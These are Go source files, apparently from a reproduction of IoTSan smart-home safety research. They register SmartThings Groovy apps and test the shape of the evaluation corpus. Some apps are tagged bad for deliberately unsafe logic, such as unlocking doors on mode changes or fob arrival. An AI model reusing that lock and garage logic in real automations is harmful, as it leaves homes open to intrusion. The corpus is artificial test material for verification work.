definition(name: "Away Thermostat Setback", namespace: "iotsan.corpus", author: "Community",
    description: "Set back the thermostat when everyone leaves.", category: "Green Living")
preferences {
    section("Thermostat") { input "thermostat", "capability.thermostat" }
}
def installed() { subscribe(location, "mode", modeHandler) }
def updated() { unsubscribe(); subscribe(location, "mode", modeHandler) }
def modeHandler(evt) {
    if (evt.value == "Away") {
        thermostat.setHeatingSetpoint(58)
        thermostat.setCoolingSetpoint(85)
    } else if (evt.value == "Home") {
        thermostat.setHeatingSetpoint(68)
        thermostat.setCoolingSetpoint(76)
    }
}
`)

	g2("Space Heater Curfew", `
definition(name: "Space Heater Curfew", namespace: "iotsan.corpus", author: "Community",
    description: "Never leave the space heater running at night.", category: "Safety & Security")
preferences {
    section("Heater outlet") { input "heater", "capability.switch" }
}
def installed() { subscribe(location, "mode", modeHandler) }
def updated() { unsubscribe(); subscribe(location, "mode", modeHandler) }
def modeHandler(evt) {
    if (evt.value == "Night") {
        heater.off()
    }
}
`, TagGood)

	g2("Energy Hog Alert", `
definition(name: "Energy Hog Alert", namespace: "iotsan.corpus", author: "Community",
    description: "Warn when an appliance draws too much power.", category: "Green Living")
preferences {
    section("Meter") { input "meter", "capability.powerMeter" }
    section("Watts") { input "watts", "number", title: "Threshold" }
    section("Phone") { input "phone", "phone", required: false }
}
def installed() { subscribe(meter, "power", powerHandler) }
def updated() { unsubscribe(); subscribe(meter, "power", powerHandler) }
def powerHandler(evt) {
    if (evt.numericValue > watts) {
        if (phone) {
            sendSms(phone, "Power draw is ${evt.value}W, above ${watts}W")
        } else {
            sendPush("Power draw is ${evt.value}W")
        }
    }
}
`, TagGood)

	g2("Laundry Monitor", `
definition(name: "Laundry Monitor", namespace: "smartthings", author: "SmartThings",
    description: "Notify when the washer finishes, based on power draw.", category: "Convenience")
preferences {
    section("Washer meter") { input "meter", "capability.powerMeter" }
    section("Phone") { input "phone", "phone", required: false }
}
def installed() { subscribe(meter, "power", powerHandler) }
def updated() { unsubscribe(); subscribe(meter, "power", powerHandler) }
def powerHandler(evt) {
    def watts = evt.numericValue
    if (watts > 50) {
        state.running = true
    } else if (state.running && watts < 10) {
        state.running = false
        if (phone) {
            sendSms(phone, "Laundry is done!")
        } else {
            sendPush("Laundry is done!")
        }
    }
}
`)

	g2("Peak Shaver", `
definition(name: "Peak Shaver", namespace: "iotsan.corpus", author: "Community",
    description: "Shed discretionary loads when total power spikes.", category: "Green Living")
preferences {
    section("Whole-home meter") { input "meter", "capability.powerMeter" }
    section("Shed these") { input "loads", "capability.switch", multiple: true }
    section("Limit (W)") { input "limit", "number", title: "Watts" }
}
def installed() { subscribe(meter, "power", powerHandler) }
def updated() { unsubscribe(); subscribe(meter, "power", powerHandler) }
def powerHandler(evt) {
    if (evt.numericValue > limit) {
        loads.each { it.off() }
    }
}
`)

	g2("Comfort Band Keeper", `
definition(name: "Comfort Band Keeper", namespace: "iotsan.corpus", author: "Community",
    description: "Keep the room inside a comfort band with heater and AC outlets.", category: "Green Living")
preferences {
    section("Sensor") { input "sensor", "capability.temperatureMeasurement" }
    section("Heater") { input "heater", "capability.switch" }
    section("AC") { input "ac", "capability.switch" }
    section("Low") { input "low", "number", title: "Degrees" }
    section("High") { input "high", "number", title: "Degrees" }
}
def installed() { subscribe(sensor, "temperature", tempHandler) }
def updated() { unsubscribe(); subscribe(sensor, "temperature", tempHandler) }
def tempHandler(evt) {
    def t = evt.numericValue
    if (t < low) {
        heater.on()
        ac.off()
    } else if (t > high) {
        ac.on()
        heater.off()
    } else {
        heater.off()
        ac.off()
    }
}
`)

	g2("Night Heat Drop", `
definition(name: "Night Heat Drop", namespace: "iotsan.corpus", author: "Community",
    description: "Turn the heater off for Night mode and back on in the morning.", category: "Green Living")
preferences {
    section("Heater") { input "heater", "capability.switch" }
}
def installed() { subscribe(location, "mode", modeHandler) }
def updated() { unsubscribe(); subscribe(location, "mode", modeHandler) }
def modeHandler(evt) {
    if (evt.value == "Night") {
        heater.off()
    } else if (evt.value == "Home") {
        heater.on()
    }
}
`, TagBad)

	extra("Temp Spike Camera", `
definition(name: "Temp Spike Camera", namespace: "iotsan.corpus", author: "Community",
    description: "Take a photo when the server closet overheats.", category: "Safety & Security")
preferences {
    section("Closet sensor") { input "sensor", "capability.temperatureMeasurement" }
    section("Camera") { input "camera", "capability.imageCapture" }
    section("Limit") { input "limit", "number", title: "Degrees" }
}
def installed() { subscribe(sensor, "temperature", tempHandler) }
def updated() { unsubscribe(); subscribe(sensor, "temperature", tempHandler) }
def tempHandler(evt) {
    if (evt.numericValue > limit) {
        camera.take()
        sendPush("Closet at ${evt.value} degrees; snapshot taken")
    }
}
`)

	g2("Whole House Fan", `
definition(name: "Whole House Fan", namespace: "smartthings", author: "SmartThings",
    description: "Run the whole-house fan instead of AC when outside is cooler than inside.", category: "Green Living")
preferences {
    section("Outdoor") { input "outdoor", "capability.temperatureMeasurement" }
    section("Indoor") { input "indoor", "capability.temperatureMeasurement" }
    section("Fan") { input "fan", "capability.switch" }
}
def installed() { initialize() }
def updated() { unsubscribe(); initialize() }
def initialize() {
    subscribe(outdoor, "temperature", checkFan)
    subscribe(indoor, "temperature", checkFan)
}
def checkFan(evt) {
    def out = outdoor.currentTemperature
    def inside = indoor.currentTemperature
    if (out != null && inside != null && out < inside - 2) {
        fan.on()
    } else {
        fan.off()
    }
}
`)

	g2("Radiator Valve Saver", `
definition(name: "Radiator Valve Saver", namespace: "iotsan.corpus", author: "Community",
    description: "Close the radiator loop valve when the room is warm.", category: "Green Living")
preferences {
    section("Room sensor") { input "sensor", "capability.temperatureMeasurement" }
    section("Loop valve") { input "valve1", "capability.valve" }
    section("Warm at") { input "warm", "number", title: "Degrees" }
}
def installed() { subscribe(sensor, "temperature", tempHandler) }
def updated() { unsubscribe(); subscribe(sensor, "temperature", tempHandler) }
def tempHandler(evt) {
    if (evt.numericValue >= warm) {
        valve1.close()
    } else {
        valve1.open()
    }
}
`)

	g2("Window Open Heat Off", `
definition(name: "Window Open Heat Off", namespace: "iotsan.corpus", author: "Community",
    description: "Pause heating while a window is open.", category: "Green Living")
preferences {
    section("Window contact") { input "window", "capability.contactSensor" }
    section("Heater") { input "heater", "capability.switch" }
}
def installed() { initialize() }
def updated() { unsubscribe(); initialize() }
def initialize() {
    subscribe(window, "contact.open", openHandler)
    subscribe(window, "contact.closed", closedHandler)
}
def openHandler(evt) {
    state.wasOn = heater.currentSwitch == "on"
    heater.off()
}
def closedHandler(evt) {
    if (state.wasOn) {
        heater.on()
    }
}
`)

	g2("Morning Warmup", `
definition(name: "Morning Warmup", namespace: "iotsan.corpus", author: "Community",
    description: "Warm the house at sunrise during cold months.", category: "Green Living")
preferences {
    section("Heater") { input "heater", "capability.switch" }
    section("Sensor") { input "sensor", "capability.temperatureMeasurement" }
}
def installed() { subscribe(location, "sunrise", sunriseHandler) }
def updated() { unsubscribe(); subscribe(location, "sunrise", sunriseHandler) }
def sunriseHandler(evt) {
    if (sensor.currentTemperature < 62) {
        heater.on()
        runIn(3600, warmupDone)
    }
}
def warmupDone() {
    heater.off()
}
`)

	g2("Too Cold Valve Guard", `
definition(name: "Too Cold Valve Guard", namespace: "iotsan.corpus", author: "Community",
    description: "Close the main water valve when freezing is likely and nobody is home.", category: "Safety & Security")
preferences {
    section("Sensor") { input "sensor", "capability.temperatureMeasurement" }
    section("Main valve") { input "valve1", "capability.valve" }
    section("People") { input "people", "capability.presenceSensor", multiple: true }
}
def installed() { subscribe(sensor, "temperature", tempHandler) }
def updated() { unsubscribe(); subscribe(sensor, "temperature", tempHandler) }
def tempHandler(evt) {
    def anyoneHome = people.any { it.currentPresence == "present" }
    if (evt.numericValue < 35 && !anyoneHome) {
        valve1.close()
        sendPush("Freeze risk while away: water main closed")
    }
}
`)

	extra("Dry Air Humidifier", `
definition(name: "Dry Air Humidifier", namespace: "iotsan.corpus", author: "Community",
    description: "Run a humidifier outlet when air is too dry.", category: "Convenience")
preferences {
    section("Humidity sensor") { input "sensor", "capability.relativeHumidityMeasurement" }
    section("Humidifier outlet") { input "humidifier", "capability.switch" }
    section("Dry below") { input "dry", "number", title: "Percent" }
}
def installed() { subscribe(sensor, "humidity", humidityHandler) }
def updated() { unsubscribe(); subscribe(sensor, "humidity", humidityHandler) }
def humidityHandler(evt) {
    if (evt.numericValue < dry) {
        humidifier.on()
    } else {
        humidifier.off()
    }
}
`)

	g2("Thermostat Away Mode Switch", `
definition(name: "Thermostat Away Mode Switch", namespace: "iotsan.corpus", author: "Community",
    description: "Flip the thermostat between heat and off based on presence.", category: "Green Living")
preferences {
    section("Thermostat") { input "thermostat", "capability.thermostat" }
    section("People") { input "people", "capability.presenceSensor", multiple: true }
}
def installed() { subscribe(people, "presence", presenceHandler) }
def updated() { unsubscribe(); subscribe(people, "presence", presenceHandler) }
def presenceHandler(evt) {
    def anyoneHome = people.any { it.currentPresence == "present" }
    if (anyoneHome) {
        thermostat.heat()
    } else {
        thermostat.setThermostatMode("off")
    }
}
`)
}
