package corpus

import (
	"testing"

	"iotsan/internal/smartapp"
)

// TestEveryAppTranslates is the corpus gate: every app must parse,
// translate, and register at least one subscription or schedule.
func TestEveryAppTranslates(t *testing.T) {
	for _, s := range Apps() {
		app, err := smartapp.Translate(s.Groovy)
		if err != nil {
			t.Errorf("%s: %v", s.Name, err)
			continue
		}
		if app.Name != s.Name {
			t.Errorf("%s: definition name %q differs from corpus key", s.Name, app.Name)
		}
		if len(app.Subscriptions)+len(app.Schedules) == 0 {
			t.Errorf("%s: no subscriptions or schedules extracted", s.Name)
		}
		if len(app.Inputs) == 0 {
			t.Errorf("%s: no inputs extracted", s.Name)
		}
	}
}

// TestCorpusShape checks the corpus matches the paper's evaluation
// inventory: 150 market apps in six groups of 25, and 9 malicious apps.
func TestCorpusShape(t *testing.T) {
	market := WithTag(TagMarket)
	if len(market) != 150 {
		t.Errorf("market apps = %d, want 150", len(market))
	}
	for g := 1; g <= 6; g++ {
		if n := len(Group(g)); n != 25 {
			t.Errorf("group %d = %d apps, want 25", g, n)
		}
	}
	if n := len(WithTag(TagMalicious)); n != 9 {
		t.Errorf("malicious apps = %d, want 9", n)
	}
	if n := len(WithTag(TagBad)); n != 11 {
		t.Errorf("bad-tagged market apps = %d, want 11", n)
	}
	if n := len(WithTag(TagGood)); n < 10 {
		t.Errorf("good-tagged market apps = %d, want >= 10", n)
	}
}

// TestEveryHandlerAnalyzable: handler analysis yields input events for
// every handler of every corpus app.
func TestEveryHandlerAnalyzable(t *testing.T) {
	for _, s := range Apps() {
		app, err := smartapp.Translate(s.Groovy)
		if err != nil {
			continue // reported by TestEveryAppTranslates
		}
		for _, hi := range smartapp.AnalyzeHandlers(app) {
			if len(hi.Inputs) == 0 {
				t.Errorf("%s/%s: no input events", s.Name, hi.Handler)
			}
		}
	}
}

func TestByName(t *testing.T) {
	if _, ok := ByName("Virtual Thermostat"); !ok {
		t.Error("Virtual Thermostat missing")
	}
	if _, ok := ByName("no such app"); ok {
		t.Error("unexpected hit")
	}
}
