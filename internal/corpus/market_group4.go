package corpus

// Group 4: presence, modes, and departures (Make It So, Darken Behind
// Me, Switch Changes Mode plus 22 more).

func g4(name, groovy string, tags ...Tag) {
	register(Source{Name: name, Group: 4, Tags: append([]Tag{TagMarket}, tags...), Groovy: groovy})
}

func init() {
	g4("Everyone's Gone", `
definition(name: "Everyone's Gone", namespace: "iotsan.corpus", author: "Community",
    description: "When the last person leaves: lights off, doors locked, mode Away.", category: "Mode Magic")
preferences {
    section("People") { input "people", "capability.presenceSensor", multiple: true }
    section("Lights off") { input "lights", "capability.switch", multiple: true, required: false }
    section("Locks") { input "locks", "capability.lock", multiple: true, required: false }
}
def installed() { subscribe(people, "presence.not present", leftHandler) }
def updated() { unsubscribe(); subscribe(people, "presence.not present", leftHandler) }
def leftHandler(evt) {
    def anyoneHome = people.any { it.currentPresence == "present" }
    if (!anyoneHome) {
        if (lights) { lights.off() }
        if (locks) { locks.each { it.lock() } }
        if (location.mode != "Away") {
            setLocationMode("Away")
        }
    }
}
`, TagGood)

	g4("I'm Back", `
definition(name: "I'm Back", namespace: "smartthings", author: "SmartThings",
    description: "Restore Home mode when someone returns.", category: "Mode Magic")
preferences {
    section("People") { input "people", "capability.presenceSensor", multiple: true }
    section("Home mode") { input "homeMode", "mode", title: "Mode?" }
}
def installed() { subscribe(people, "presence.present", arriveHandler) }
def updated() { unsubscribe(); subscribe(people, "presence.present", arriveHandler) }
def arriveHandler(evt) {
    if (location.mode != homeMode) {
        setLocationMode(homeMode)
        sendPush("Welcome back! Mode set to ${homeMode}")
    }
}
`)

	g4("Vacation Lighting Director", `
definition(name: "Vacation Lighting Director", namespace: "smartthings", author: "SmartThings",
    description: "Cycle lights while in Away mode to simulate occupancy.", category: "Safety & Security")
preferences {
    section("Lights") { input "lights", "capability.switch", multiple: true }
}
def installed() { subscribe(location, "mode.Away", awayHandler) }
def updated() { unsubscribe(); subscribe(location, "mode.Away", awayHandler) }
def awayHandler(evt) {
    runIn(3600, cycle)
}
def cycle() {
    if (location.mode == "Away") {
        def first = lights[0]
        if (first.currentSwitch == "on") {
            first.off()
        } else {
            first.on()
        }
        runIn(3600, cycle)
    }
}
`)

	g4("Departure Camera Arm", `
definition(name: "Departure Camera Arm", namespace: "iotsan.corpus", author: "Community",
    description: "Prime the camera whenever the mode turns to Away.", category: "Safety & Security")
preferences {
    section("Camera") { input "camera", "capability.imageCapture" }
}
def installed() { subscribe(location, "mode.Away", armHandler) }
def updated() { unsubscribe(); subscribe(location, "mode.Away", armHandler) }
def armHandler(evt) {
    camera.take()
}
`)

	g4("Mode Follows Switch", `
definition(name: "Mode Follows Switch", namespace: "iotsan.corpus", author: "Community",
    description: "A physical guest switch forces Home mode while on.", category: "Mode Magic")
preferences {
    section("Guest switch") { input "guest", "capability.switch" }
}
def installed() { initialize() }
def updated() { unsubscribe(); initialize() }
def initialize() {
    subscribe(guest, "switch.on", guestOn)
    subscribe(guest, "switch.off", guestOff)
}
def guestOn(evt) {
    state.prevMode = location.mode
    if (location.mode != "Home") {
        setLocationMode("Home")
    }
}
def guestOff(evt) {
    def prev = state.prevMode
    if (prev != null && location.mode != prev) {
        setLocationMode(prev)
    }
}
`)

	g4("Presence Valve Control", `
definition(name: "Presence Valve Control", namespace: "iotsan.corpus", author: "Community",
    description: "Shut the water main whenever the house empties.", category: "Safety & Security")
preferences {
    section("People") { input "people", "capability.presenceSensor", multiple: true }
    section("Main valve") { input "valve1", "capability.valve" }
}
def installed() { subscribe(people, "presence", presenceHandler) }
def updated() { unsubscribe(); subscribe(people, "presence", presenceHandler) }
def presenceHandler(evt) {
    def anyoneHome = people.any { it.currentPresence == "present" }
    if (anyoneHome) {
        valve1.open()
    } else {
        valve1.close()
    }
}
`)

	g4("Garage Closer", `
definition(name: "Garage Closer", namespace: "iotsan.corpus", author: "Community",
    description: "Close the garage when everyone has left.", category: "Safety & Security")
preferences {
    section("People") { input "people", "capability.presenceSensor", multiple: true }
    section("Garage") { input "garage", "capability.garageDoorControl" }
}
def installed() { subscribe(people, "presence.not present", leftHandler) }
def updated() { unsubscribe(); subscribe(people, "presence.not present", leftHandler) }
def leftHandler(evt) {
    def anyoneHome = people.any { it.currentPresence == "present" }
    if (!anyoneHome && garage.currentDoor != "closed") {
        garage.close()
        sendPush("Garage closed because everyone left")
    }
}
`, TagGood)

	g4("Garage Opener on Arrival", `
definition(name: "Garage Opener on Arrival", namespace: "iotsan.corpus", author: "Community",
    description: "Open the garage when my car arrives.", category: "Convenience")
preferences {
    section("Car presence") { input "car", "capability.presenceSensor" }
    section("Garage") { input "garage", "capability.garageDoorControl" }
}
def installed() { subscribe(car, "presence.present", arriveHandler) }
def updated() { unsubscribe(); subscribe(car, "presence.present", arriveHandler) }
def arriveHandler(evt) {
    garage.open()
}
`, TagBad)

	g4("Away Media Stop", `
definition(name: "Away Media Stop", namespace: "iotsan.corpus", author: "Community",
    description: "Stop all media when the house goes to Away.", category: "Convenience")
preferences {
    section("Players") { input "players", "capability.musicPlayer", multiple: true }
}
def installed() { subscribe(location, "mode.Away", awayHandler) }
def updated() { unsubscribe(); subscribe(location, "mode.Away", awayHandler) }
def awayHandler(evt) {
    players.each { it.stop() }
}
`)

	g4("Mode Text Alerts", `
definition(name: "Mode Text Alerts", namespace: "iotsan.corpus", author: "Community",
    description: "Text me every time the location mode changes.", category: "Convenience")
preferences {
    section("Phone") { input "phone", "phone" }
}
def installed() { subscribe(location, "mode", modeHandler) }
def updated() { unsubscribe(); subscribe(location, "mode", modeHandler) }
def modeHandler(evt) {
    sendSms(phone, "Mode changed to ${evt.value}")
}
`)

	g4("Curling Iron Cutoff", `
definition(name: "Curling Iron Cutoff", namespace: "smartthings", author: "SmartThings",
    description: "Turn off risky outlets when everyone leaves.", category: "Safety & Security")
preferences {
    section("People") { input "people", "capability.presenceSensor", multiple: true }
    section("Risky outlets") { input "outlets", "capability.switch", multiple: true }
}
def installed() { subscribe(people, "presence.not present", leftHandler) }
def updated() { unsubscribe(); subscribe(people, "presence.not present", leftHandler) }
def leftHandler(evt) {
    def anyoneHome = people.any { it.currentPresence == "present" }
    if (!anyoneHome) {
        outlets.off()
        sendPush("Turned off risky outlets")
    }
}
`, TagGood)

	g4("Arrival Thermostat Boost", `
definition(name: "Arrival Thermostat Boost", namespace: "iotsan.corpus", author: "Community",
    description: "Pre-warm the house when the car gets close.", category: "Green Living")
preferences {
    section("Car presence") { input "car", "capability.presenceSensor" }
    section("Thermostat") { input "thermostat", "capability.thermostat" }
}
def installed() { subscribe(car, "presence.present", arriveHandler) }
def updated() { unsubscribe(); subscribe(car, "presence.present", arriveHandler) }
def arriveHandler(evt) {
    thermostat.heat()
    thermostat.setHeatingSetpoint(70)
}
`)

	g4("Left Alone Pet Light", `
definition(name: "Left Alone Pet Light", namespace: "iotsan.corpus", author: "Community",
    description: "Leave one lamp on for the pets when the house empties.", category: "Convenience")
preferences {
    section("People") { input "people", "capability.presenceSensor", multiple: true }
    section("Pet lamp") { input "lamp", "capability.switch" }
    section("Other lights") { input "others", "capability.switch", multiple: true, required: false }
}
def installed() { subscribe(people, "presence.not present", leftHandler) }
def updated() { unsubscribe(); subscribe(people, "presence.not present", leftHandler) }
def leftHandler(evt) {
    def anyoneHome = people.any { it.currentPresence == "present" }
    if (!anyoneHome) {
        lamp.on()
        if (others) {
            others.off()
        }
    }
}
`)

	g4("Back Door Auto Close", `
definition(name: "Back Door Auto Close", namespace: "iotsan.corpus", author: "Community",
    description: "Close the automated back door when the mode turns Away.", category: "Safety & Security")
preferences {
    section("Back door") { input "door", "capability.doorControl" }
}
def installed() { subscribe(location, "mode.Away", awayHandler) }
def updated() { unsubscribe(); subscribe(location, "mode.Away", awayHandler) }
def awayHandler(evt) {
    if (door.currentDoor != "closed") {
        door.close()
    }
}
`)

	g4("Driveway Motion Mode Check", `
definition(name: "Driveway Motion Mode Check", namespace: "iotsan.corpus", author: "Community",
    description: "Notify on driveway motion while nobody is home.", category: "Safety & Security")
preferences {
    section("Driveway motion") { input "motion1", "capability.motionSensor" }
    section("Phone") { input "phone", "phone", required: false }
}
def installed() { subscribe(motion1, "motion.active", motionHandler) }
def updated() { unsubscribe(); subscribe(motion1, "motion.active", motionHandler) }
def motionHandler(evt) {
    if (location.mode == "Away") {
        if (phone) {
            sendSms(phone, "Driveway motion while you are away")
        } else {
            sendPush("Driveway motion while you are away")
        }
    }
}
`)

	g4("Switch On Mode Guard", `
definition(name: "Switch On Mode Guard", namespace: "iotsan.corpus", author: "Community",
    description: "Turn on the hallway light whenever the house wakes from Away.", category: "Convenience")
preferences {
    section("Hall light") { input "light", "capability.switch" }
}
def installed() { subscribe(location, "mode", modeHandler) }
def updated() { unsubscribe(); subscribe(location, "mode", modeHandler) }
def modeHandler(evt) {
    if (evt.value == "Home") {
        light.on()
    } else if (evt.value == "Away") {
        light.off()
    }
}
`)

	g4("Two Stage Departure", `
definition(name: "Two Stage Departure", namespace: "iotsan.corpus", author: "Community",
    description: "Wait a grace period before going Away, in case someone returns.", category: "Mode Magic")
preferences {
    section("People") { input "people", "capability.presenceSensor", multiple: true }
    section("Grace (min)") { input "grace", "number", title: "Minutes" }
}
def installed() { initialize() }
def updated() { unsubscribe(); initialize() }
def initialize() { subscribe(people, "presence", presenceHandler) }
def presenceHandler(evt) {
    def anyoneHome = people.any { it.currentPresence == "present" }
    if (!anyoneHome) {
        runIn(grace * 60, commitAway)
    } else if (location.mode == "Away") {
        setLocationMode("Home")
    }
}
def commitAway() {
    def anyoneHome = people.any { it.currentPresence == "present" }
    if (!anyoneHome && location.mode != "Away") {
        setLocationMode("Away")
    }
}
`)

	extra("Mail Carrier Alert", `
definition(name: "Mail Carrier Alert", namespace: "iotsan.corpus", author: "Community",
    description: "Chime when the mailbox opens during the day.", category: "Convenience")
preferences {
    section("Mailbox contact") { input "mailbox", "capability.contactSensor" }
    section("Chime") { input "chime", "capability.tone" }
}
def installed() { subscribe(mailbox, "contact.open", mailHandler) }
def updated() { unsubscribe(); subscribe(mailbox, "contact.open", mailHandler) }
def mailHandler(evt) {
    if (location.mode != "Night") {
        chime.beep()
    }
}
`)

	g4("Guest Mode Unlock", `
definition(name: "Guest Mode Unlock", namespace: "iotsan.corpus", author: "Community",
    description: "While in Home mode, keep the side door unlocked for guests.", category: "Convenience")
preferences {
    section("Side door lock") { input "lock1", "capability.lock" }
}
def installed() { subscribe(location, "mode", modeHandler) }
def updated() { unsubscribe(); subscribe(location, "mode", modeHandler) }
def modeHandler(evt) {
    if (evt.value == "Home") {
        lock1.unlock()
    } else {
        lock1.lock()
    }
}
`, TagBad)

	g4("Weekend Warmup Switch", `
definition(name: "Weekend Warmup Switch", namespace: "iotsan.corpus", author: "Community",
    description: "A bedside button toggles the bedroom heater outlet.", category: "Convenience")
preferences {
    section("Button") { input "button1", "capability.button" }
    section("Heater outlet") { input "heater", "capability.switch" }
}
def installed() { subscribe(button1, "button.pushed", pushHandler) }
def updated() { unsubscribe(); subscribe(button1, "button.pushed", pushHandler) }
def pushHandler(evt) {
    if (heater.currentSwitch == "on") {
        heater.off()
    } else {
        heater.on()
    }
}
`)

	g4("Nobody Home Lights Off", `
definition(name: "Nobody Home Lights Off", namespace: "iotsan.corpus", author: "Community",
    description: "Sweep all lights off shortly after the mode turns Away.", category: "Green Living")
preferences {
    section("Lights") { input "lights", "capability.switch", multiple: true }
}
def installed() { subscribe(location, "mode.Away", awayHandler) }
def updated() { unsubscribe(); subscribe(location, "mode.Away", awayHandler) }
def awayHandler(evt) {
    runIn(300, sweep)
}
def sweep() {
    if (location.mode == "Away") {
        lights.off()
    }
}
`)

	g4("Dog Walker Window", `
definition(name: "Dog Walker Window", namespace: "iotsan.corpus", author: "Community",
    description: "Let the dog walker in: unlock when their fob arrives in Away mode.", category: "Convenience")
preferences {
    section("Walker fob") { input "walker", "capability.presenceSensor" }
    section("Front lock") { input "lock1", "capability.lock" }
}
def installed() { subscribe(walker, "presence.present", walkerHere) }
def updated() { unsubscribe(); subscribe(walker, "presence.present", walkerHere) }
def walkerHere(evt) {
    if (location.mode == "Away") {
        lock1.unlock()
        sendPush("Dog walker arrived; front door unlocked")
    }
}
`, TagBad)

	g4("Acceleration Alarm Arm", `
definition(name: "Acceleration Alarm Arm", namespace: "iotsan.corpus", author: "Community",
    description: "While Away, treat safe-box movement as tampering.", category: "Safety & Security")
preferences {
    section("Safe box accel") { input "accel", "capability.accelerationSensor" }
    section("Siren") { input "siren", "capability.alarm" }
}
def installed() { subscribe(accel, "acceleration.active", tamper) }
def updated() { unsubscribe(); subscribe(accel, "acceleration.active", tamper) }
def tamper(evt) {
    if (location.mode == "Away") {
        siren.siren()
        sendPush("Safe box moved while away!")
    }
}
`)
}
