package corpus

// The apps the paper names explicitly: the Table 2 dependency-graph
// example, the Figure 1 Virtual Thermostat, and the Figure 8 violation
// scenarios. Their logic follows the published SmartThingsCommunity
// sources the paper analysed.

func init() {
	register(Source{Name: "Brighten Dark Places", Group: 1, Tags: []Tag{TagMarket}, Groovy: `
definition(
    name: "Brighten Dark Places",
    namespace: "smartthings",
    author: "SmartThings",
    description: "Turn your lights on when an open/close sensor opens and the space is dark.",
    category: "Convenience"
)

preferences {
    section("When the door opens...") {
        input "contact1", "capability.contactSensor", title: "Where?"
    }
    section("And it's dark...") {
        input "luminance1", "capability.illuminanceMeasurement", title: "Where?"
    }
    section("Turn on a light...") {
        input "switches", "capability.switch", multiple: true
    }
}

def installed() {
    subscribe(contact1, "contact.open", contactOpenHandler)
}

def updated() {
    unsubscribe()
    subscribe(contact1, "contact.open", contactOpenHandler)
}

def contactOpenHandler(evt) {
    def lightSensorState = luminance1.currentIlluminance
    log.debug "SENSOR = $lightSensorState"
    if (lightSensorState != null && lightSensorState < 10) {
        log.trace "light.on() ... [luminance: ${lightSensorState}]"
        switches.on()
    }
}
`})

	register(Source{Name: "Let There Be Dark!", Group: 1, Tags: []Tag{TagMarket}, Groovy: `
definition(
    name: "Let There Be Dark!",
    namespace: "smartthings",
    author: "SmartThings",
    description: "Turn your lights off when an open/close sensor closes and on when it opens.",
    category: "Convenience"
)

preferences {
    section("When the door opens/closes...") {
        input "contact1", "capability.contactSensor", title: "Where?"
    }
    section("Turn on/off a light...") {
        input "switches", "capability.switch", multiple: true
    }
}

def installed() {
    subscribe(contact1, "contact", contactHandler)
}

def updated() {
    unsubscribe()
    subscribe(contact1, "contact", contactHandler)
}

def contactHandler(evt) {
    if (evt.value == "open") {
        switches.off()
    } else if (evt.value == "closed") {
        switches.on()
    }
}
`})

	register(Source{Name: "Auto Mode Change", Group: 1, Tags: []Tag{TagMarket}, Groovy: `
definition(
    name: "Auto Mode Change",
    namespace: "smartthings",
    author: "SmartThings",
    description: "Changes location mode based on presence.",
    category: "Mode Magic"
)

preferences {
    section("When these people come and go") {
        input "people", "capability.presenceSensor", multiple: true
    }
    section("Change to this mode when everyone leaves") {
        input "awayMode", "mode", title: "Away mode"
    }
    section("Change to this mode when someone is home") {
        input "homeMode", "mode", title: "Home mode"
    }
}

def installed() {
    initialize()
}

def updated() {
    unsubscribe()
    initialize()
}

def initialize() {
    subscribe(people, "presence", presenceHandler)
}

private everyoneIsAway() {
    def result = true
    for (person in people) {
        if (person.currentPresence == "present") {
            result = false
        }
    }
    return result
}

def presenceHandler(evt) {
    if (evt.value == "not present") {
        if (everyoneIsAway()) {
            def newMode = awayMode
            if (location.mode != newMode) {
                setLocationMode(newMode)
                log.debug "changed mode to $newMode"
            }
        }
    } else {
        def newMode = homeMode
        if (location.mode != newMode) {
            setLocationMode(newMode)
        }
    }
}
`})

	register(Source{Name: "Unlock Door", Group: 1, Tags: []Tag{TagMarket, TagBad}, Groovy: `
definition(
    name: "Unlock Door",
    namespace: "smartthings",
    author: "SmartThings",
    description: "Unlocks the door upon user input.",
    category: "Safety & Security"
)

preferences {
    section("Which lock?") {
        input "lock1", "capability.lock", title: "Lock"
    }
}

def installed() {
    initialize()
}

def updated() {
    unsubscribe()
    initialize()
}

def initialize() {
    subscribe(app, appTouch)
    subscribe(location, "mode", changedLocationMode)
}

def appTouch(evt) {
    lock1.unlock()
}

def changedLocationMode(evt) {
    lock1.unlock()
}
`})

	register(Source{Name: "Big Turn On", Group: 1, Tags: []Tag{TagMarket}, Groovy: `
definition(
    name: "Big Turn On",
    namespace: "smartthings",
    author: "SmartThings",
    description: "Turn your lights on when the SmartApp is tapped or activated.",
    category: "Convenience"
)

preferences {
    section("Turn on...") {
        input "switches", "capability.switch", multiple: true
    }
}

def installed() {
    subscribe(app, appTouch)
    subscribe(location, "mode", changedLocationMode)
}

def updated() {
    unsubscribe()
    subscribe(app, appTouch)
    subscribe(location, "mode", changedLocationMode)
}

def appTouch(evt) {
    log.debug "appTouch: $evt"
    switches.on()
}

def changedLocationMode(evt) {
    log.debug "changedLocationMode: $evt"
    switches.on()
}
`})

	register(Source{Name: "Virtual Thermostat", Group: 2, Tags: []Tag{TagMarket}, Groovy: `
definition(
    name: "Virtual Thermostat",
    namespace: "smartthings",
    author: "SmartThings",
    description: "Control a space heater or window air conditioner in conjunction with any temperature sensor, like a SmartSense Multi.",
    category: "Green Living"
)

preferences {
    section("Choose a temperature sensor ... ") {
        input "sensor", "capability.temperatureMeasurement", title: "Sensor"
    }
    section("Select the heater or air conditioner outlet(s)... ") {
        input "outlets", "capability.switch", title: "Outlets", multiple: true
    }
    section("Set the desired temperature ...") {
        input "setpoint", "decimal", title: "Set Temp"
    }
    section("When there's been movement from (optional)") {
        input "motion", "capability.motionSensor", title: "Motion", required: false
    }
    section("Within this number of minutes ...") {
        input "minutes", "number", title: "Minutes", required: false
    }
    section("But never go below (or above if A/C) this value with or without motion ...") {
        input "emergencySetpoint", "decimal", title: "Emer Temp", required: false
    }
    section("Select 'heat' for a heater and 'cool' for an air conditioner ...") {
        input "mode", "enum", title: "Heating or cooling?", options: ["heat", "cool"]
    }
}

def installed() {
    subscribe(sensor, "temperature", temperatureHandler)
    if (motion) {
        subscribe(motion, "motion", motionHandler)
    }
}

def updated() {
    unsubscribe()
    subscribe(sensor, "temperature", temperatureHandler)
    if (motion) {
        subscribe(motion, "motion", motionHandler)
    }
}

def temperatureHandler(evt) {
    def isActive = hasBeenRecentMotion()
    if (isActive || emergencySetpoint) {
        evaluate(evt.numericValue, isActive ? setpoint : emergencySetpoint)
    } else {
        outlets.off()
    }
}

def motionHandler(evt) {
    if (evt.value == "active") {
        def lastTemp = sensor.currentTemperature
        if (lastTemp != null) {
            evaluate(lastTemp, setpoint)
        }
    } else if (evt.value == "inactive") {
        def isActive = hasBeenRecentMotion()
        if (isActive || emergencySetpoint) {
            def lastTemp = sensor.currentTemperature
